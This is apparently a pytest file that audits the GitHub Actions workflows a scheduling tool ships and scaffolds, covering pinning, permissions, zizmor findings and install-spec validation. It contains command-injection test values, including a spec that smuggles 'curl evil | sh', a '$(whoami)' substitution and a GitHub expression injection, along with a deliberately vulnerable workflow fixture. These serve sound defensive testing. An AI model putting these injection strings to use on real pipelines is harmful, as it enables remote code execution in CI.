"""The project's own workflows and the ones `schedctl init` writes: schema-valid, zizmor-clean,
pinned, least privilege, and doing what the design says (plan comment, apply, drift issue).

zizmor runs with --offline (no network here or in CI), --no-ignores and --no-config, so that an
ignore comment or a stray config file cannot hide a finding.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler import __version__
from reconciler.scaffold import init_repository
from tests.conftest import ROOT

PROJECT_WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.y*ml"))
SCAFFOLDED = (
    ".github/workflows/schedctl-plan.yml",
    ".github/workflows/schedctl-apply.yml",
    ".github/workflows/schedctl-drift.yml",
)
SHA_PIN = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
SEVERITIES = ("Unknown", "Informational", "Low", "Medium", "High")


@pytest.fixture(scope="module", params=["engine", "aitroop"])
def scaffolded(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp(f"init-{request.param}")
    result = init_repository(root, owner="acme-schedules", platform=request.param)
    assert not result.conflicts
    return root


def all_workflows(scaffolded: Path) -> list[Path]:
    return [*PROJECT_WORKFLOWS, *(scaffolded / rel for rel in SCAFFOLDED)]


def load_workflow(path: Path) -> dict[str, Any]:
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    if True in data:  # YAML 1.1 reads the `on:` key as the boolean true
        data["on"] = data.pop(True)
    return data


def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def zizmor(*paths: Path, persona: str = "regular") -> list[dict[str, Any]]:
    """zizmor's findings (JSON v1) for these files; fails the test when zizmor itself fails."""
    # The interpreter's own scripts directory first: where `pip install zizmor` puts it.
    search = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    exe = shutil.which("zizmor", path=search)
    if exe is None:
        pytest.fail("zizmor is not installed: pip install -e '.[test]'")
    args = [
        exe,
        "--offline",
        "--no-ignores",
        "--no-config",
        "--no-exit-codes",
        "--strict-collection",
    ]
    proc = subprocess.run(
        [*args, "--no-progress", "--format", "json", "--persona", persona, *map(str, paths)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    findings: list[dict[str, Any]] = json.loads(proc.stdout)
    return findings


def at_least(findings: list[dict[str, Any]], severity: str) -> list[str]:
    floor = SEVERITIES.index(severity)
    return [
        f"{f['ident']} ({f['determinations']['severity']}): "
        f"{f['locations'][0]['symbolic']['key']} {f['locations'][0]['concrete']['feature']}"
        for f in findings
        if SEVERITIES.index(f["determinations"]["severity"]) >= floor
    ]


# --- the checkers themselves ------------------------------------------------------------------


def test_project_has_a_ci_workflow() -> None:
    assert ROOT / ".github" / "workflows" / "ci.yml" in PROJECT_WORKFLOWS


def test_zizmor_check_is_not_vacuous(tmp_path: Path) -> None:
    bad = tmp_path / ".github" / "workflows" / "bad.yml"
    bad.parent.mkdir(parents=True)
    bad.write_text(
        "on: pull_request_target\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n"
        "    steps:\n      - uses: actions/checkout@v4\n"
        '      - run: echo "${{ github.event.pull_request.title }}"\n',
        encoding="utf-8",
    )
    found = {f["ident"] for f in zizmor(bad)}
    assert {"dangerous-triggers", "template-injection", "unpinned-uses", "artipacked"} <= found


# --- schema and zizmor ------------------------------------------------------------------------


def check_jsonschema(schema: str, *paths: Path) -> None:
    """`check-jsonschema --builtin-schema SCHEMA PATHS` must pass."""
    proc = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, *map(str, paths)],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_workflows_match_the_github_workflow_schema(scaffolded: Path) -> None:
    check_jsonschema("vendor.github-workflows", *all_workflows(scaffolded))


def test_dependabot_config_matches_its_schema(scaffolded: Path) -> None:
    check_jsonschema("vendor.dependabot", scaffolded / ".github" / "dependabot.yml")


def test_zizmor_finds_nothing_medium_or_high(scaffolded: Path) -> None:
    paths = [
        *all_workflows(scaffolded),
        scaffolded / ".github" / "dependabot.yml",
        scaffolded / ".pre-commit-config.yaml",
        ROOT / ".pre-commit-hooks.yaml",
    ]
    assert at_least(zizmor(*paths), "Medium") == []


def test_scaffolded_workflows_are_clean_even_for_the_auditor_persona(scaffolded: Path) -> None:
    # Stricter than required: the auditor persona flags secrets used outside an environment.
    assert (
        at_least(zizmor(*(scaffolded / rel for rel in SCAFFOLDED), persona="auditor"), "Low") == []
    )


# --- the rules, checked directly ---------------------------------------------------------------


def test_every_action_is_pinned_by_sha_with_a_version_comment(scaffolded: Path) -> None:
    pins: dict[str, set[str]] = {}
    for path in all_workflows(scaffolded):
        for step in steps(load_workflow(path)):
            if "uses" in step:
                assert SHA_PIN.match(step["uses"]), f"{path.name}: {step['uses']} is not SHA-pinned"
                action, sha = step["uses"].split("@")
                pins.setdefault(action, set()).add(sha)
        for line in path.read_text(encoding="utf-8").splitlines():
            if "uses:" in line:
                assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), (
                    f"{path.name}: {line.strip()}"
                )
    # One SHA per action everywhere, so a bump is one search-and-replace.
    assert all(len(shas) == 1 for shas in pins.values()), pins
    assert {"actions/checkout", "actions/setup-python", "actions/github-script"} <= set(pins)


def test_least_privilege_and_no_untrusted_expressions_in_scripts(scaffolded: Path) -> None:
    for path in all_workflows(scaffolded):
        workflow = load_workflow(path)
        assert workflow["permissions"] == {"contents": "read"}, path.name
        assert "pull_request_target" not in workflow["on"], path.name
        for step in steps(workflow):
            assert "${{" not in step.get("run", ""), f"{path.name}: expression inside run:"
            assert "${{" not in step.get("with", {}).get("script", ""), f"{path.name}: in script:"
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False, path.name


def test_pull_request_plan_is_one_comment_updated_in_place(scaffolded: Path) -> None:
    workflow = load_workflow(scaffolded / ".github/workflows/schedctl-plan.yml")
    assert set(workflow["on"]) == {"pull_request"}
    validate, plan = workflow["jobs"]["validate"], workflow["jobs"]["plan"]
    assert "permissions" not in validate  # read-only, from the workflow level
    assert any(
        "schedctl --no-color validate --format github" in s.get("run", "")
        for s in validate["steps"]
    )
    assert plan["needs"] == "validate"
    assert plan["permissions"] == {"contents": "read", "pull-requests": "write"}
    runs = "\n".join(s.get("run", "") for s in plan["steps"])
    assert "schedctl --no-color plan --format markdown > schedctl-plan.md" in runs
    script = next(s["with"]["script"] for s in plan["steps"] if "script" in s.get("with", {}))
    assert "<!-- schedctl-plan -->" in script
    assert "updateComment" in script and "createComment" in script


def test_apply_on_main_never_overlaps(scaffolded: Path) -> None:
    workflow = load_workflow(scaffolded / ".github/workflows/schedctl-apply.yml")
    assert workflow["on"]["push"]["branches"] == ["main"]
    assert workflow["concurrency"] == {"group": "schedctl-apply", "cancel-in-progress": False}
    (job,) = workflow["jobs"].values()
    assert "permissions" not in job
    assert any("schedctl --no-color apply --auto-approve" in s.get("run", "") for s in job["steps"])


def test_nightly_drift_opens_or_updates_an_issue(scaffolded: Path) -> None:
    workflow = load_workflow(scaffolded / ".github/workflows/schedctl-drift.yml")
    assert workflow["on"]["schedule"][0]["cron"]
    job = workflow["jobs"]["drift"]
    assert job["permissions"] == {"contents": "read", "issues": "write", "pages": "read"}
    runs = "\n".join(s.get("run", "") for s in job["steps"])
    assert "plan --detailed-exitcode" in runs
    script = next(s["with"]["script"] for s in job["steps"] if "script" in s.get("with", {}))
    assert "<!-- schedctl-drift -->" in script and "PLAN_EXITCODE === '2'" in script


def test_tokens_come_only_from_secrets_through_env(scaffolded: Path) -> None:
    text = (scaffolded / "schedctl.yaml").read_text(encoding="utf-8")
    config = yaml.safe_load(text)
    assert all("token" not in target for target in config["targets"].values())
    (token_env,) = set(re.findall(r"token_env: (\w+)", text))  # in the commented real target
    for rel in SCAFFOLDED:
        text = (scaffolded / rel).read_text(encoding="utf-8")
        for match in re.finditer(r"\$\{\{\s*secrets\.(\w+)\s*\}\}", text):
            assert match.group(1) == token_env
            line = text[: match.start()].rsplit("\n", 1)[-1]
            assert line.strip() == f"{token_env}:", f"{rel}: a secret outside env: {line}"


def install_steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for s in steps(workflow) if "pip install" in s.get("run", "")]


def test_workflows_install_the_pinned_schedctl_from_one_place(scaffolded: Path) -> None:
    for rel in SCAFFOLDED:
        text = (scaffolded / rel).read_text(encoding="utf-8")
        workflow = load_workflow(scaffolded / rel)
        assert workflow["env"] == {"SCHEDCTL_INSTALL": f"schedctl=={__version__}"}, rel
        assert text.count(f"schedctl=={__version__}") == 1, rel  # one place to change it
        found = install_steps(workflow)
        assert found, rel
        assert all(s["run"] == 'python -m pip install "$SCHEDCTL_INSTALL"' for s in found), rel
        # Every job that runs schedctl installs it first (a job may run none: publishing Pages).
        for job in workflow["jobs"].values():
            runs = [s.get("run", "") for s in job["steps"]]
            uses = [i for i, r in enumerate(runs) if re.search(r"(^|\n)\s*schedctl ", r)]
            installs = [i for i, r in enumerate(runs) if "pip install" in r]
            assert bool(uses) == bool(installs), rel
            assert not uses or installs[0] < uses[0], rel


# --- init --install SPEC ------------------------------------------------------------------------

GIT_SPEC = "git+https://github.com/acme/schedctl@v0.1.0"
SPECS = {
    "index": "schedctl>=0.1, <1",
    "git": GIT_SPEC,
    "path": "./vendor/schedctl",
}


@pytest.fixture(scope="module", params=sorted(SPECS))
def installed_by(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, Path]:
    root = tmp_path_factory.mktemp(f"install-{request.param}")
    result = init_repository(root, owner="acme", install=SPECS[request.param])
    assert not result.conflicts
    return request.param, root


def test_the_install_spec_is_written_once_per_workflow(installed_by: tuple[str, Path]) -> None:
    kind, root = installed_by
    for rel in SCAFFOLDED:
        workflow = load_workflow(root / rel)
        assert workflow["env"]["SCHEDCTL_INSTALL"] == SPECS[kind], rel
        assert (root / rel).read_text(encoding="utf-8").count(SPECS[kind]) == 1, rel
        assert all(
            s["run"] == 'python -m pip install "$SCHEDCTL_INSTALL"' for s in install_steps(workflow)
        )


def test_the_install_step_hands_pip_the_spec_as_one_argument(
    installed_by: tuple[str, Path], tmp_path: Path
) -> None:
    """The step's own shell line, run by bash with the workflow's env, `python` a recorder."""
    kind, root = installed_by
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    recorder = bin_dir / "python"
    recorder.write_text('#!/bin/sh\nfor a in "$@"; do printf "%s\\n" "$a"; done\n')
    recorder.chmod(0o755)
    workflow = load_workflow(root / SCAFFOLDED[0])
    (step, *_) = install_steps(workflow)
    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}", **workflow["env"]}
    proc = subprocess.run(
        ["bash", "-e", "-c", step["run"]], env=env, capture_output=True, text=True, timeout=30
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.splitlines() == ["-m", "pip", "install", SPECS[kind]]


def test_pre_commit_uses_the_published_hook_for_a_git_spec_else_a_local_one(
    installed_by: tuple[str, Path],
) -> None:
    kind, root = installed_by
    config = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    (repo,) = config["repos"]
    manifest = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))[0]
    if kind == "git":
        assert repo == {
            "repo": "https://github.com/acme/schedctl",
            "rev": "v0.1.0",
            "hooks": [{"id": manifest["id"]}],
        }
        return
    assert repo["repo"] == "local"
    (hook,) = repo["hooks"]
    for key in ("id", "entry", "language", "files", "pass_filenames"):
        assert hook[key] == manifest[key], key
    # pre-commit installs hook environments outside the repository: a path goes in absolute.
    expected = str((root / "vendor" / "schedctl").resolve()) if kind == "path" else SPECS[kind]
    assert hook["additional_dependencies"] == [expected]


def test_workflows_pass_the_checks_whatever_the_spec(installed_by: tuple[str, Path]) -> None:
    _, root = installed_by
    workflows = [root / rel for rel in SCAFFOLDED]
    check_jsonschema("vendor.github-workflows", *workflows)
    found = zizmor(*workflows, root / ".pre-commit-config.yaml", persona="auditor")
    assert at_least(found, "Low") == []


@pytest.mark.parametrize(
    ("spec", "words"),
    [
        ("requests==2.0", "does not install schedctl"),
        ("git+https://github.com/acme/schedctl", "pin a tag or commit"),
        ('schedctl"; curl evil | sh; "', "no quotes"),
        ("schedctl==$(whoami)", "no quotes"),
        ("${{ github.event.issue.title }}", "no quotes"),
        ("git+ftp://example.com/schedctl@v1", "expected a git URL"),
    ],
)
def test_a_bad_install_spec_is_refused_and_nothing_is_written(
    tmp_path: Path, spec: str, words: str
) -> None:
    from tests.conftest import run_cli

    proc = run_cli(["init", "r", "--install", spec], cwd=tmp_path)
    assert proc.returncode == 1 and words in proc.stderr, proc.stderr
    assert "--install" in proc.stderr and "Traceback" not in proc.stderr
    assert not (tmp_path / "r").exists()


def test_project_ci_lints_types_and_tests_every_python() -> None:
    workflow = load_workflow(ROOT / ".github/workflows/ci.yml")
    runs = "\n".join(s.get("run", "") for s in steps(workflow))
    for command in ("ruff check", "ruff format --check", "mypy", "pip install -e '.[dev]'"):
        assert command in runs
    assert "bash .ci/run" in runs or "pytest" in runs
    matrix = workflow["jobs"]["test"]["strategy"]["matrix"]["python"]
    assert matrix == ["3.10", "3.11", "3.12", "3.13"]


# --- pre-commit -------------------------------------------------------------------------------


def test_pre_commit_hooks_manifest() -> None:
    hooks = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    (hook,) = (h for h in hooks if h["id"] == "schedctl-validate")
    assert hook["entry"] == "schedctl validate"
    assert hook["language"] == "python"
    assert hook["pass_filenames"] is False
    assert re.search(hook["files"], "schedules/a.yaml") and re.search(hook["files"], "b.yml")
    assert not re.search(hook["files"], "README.md")


def test_scaffolded_pre_commit_config_uses_the_validate_hook(scaffolded: Path) -> None:
    config = yaml.safe_load((scaffolded / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    (repo,) = config["repos"]
    (hook,) = repo["hooks"]
    manifest = yaml.safe_load((ROOT / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))[0]
    # The local hook is the published one, pinned to this version.
    for key in ("id", "entry", "language", "files", "pass_filenames"):
        assert hook[key] == manifest[key], key
    assert hook["additional_dependencies"] == [f"schedctl=={__version__}"]


def test_pre_commit_accepts_both_files_when_installed(scaffolded: Path) -> None:
    clientlib = pytest.importorskip("pre_commit.clientlib")
    clientlib.load_manifest(str(ROOT / ".pre-commit-hooks.yaml"))
    clientlib.load_config(str(scaffolded / ".pre-commit-config.yaml"))


def test_pre_commit_accepts_the_config_whatever_the_spec(installed_by: tuple[str, Path]) -> None:
    clientlib = pytest.importorskip("pre_commit.clientlib")
    clientlib.load_config(str(installed_by[1] / ".pre-commit-config.yaml"))
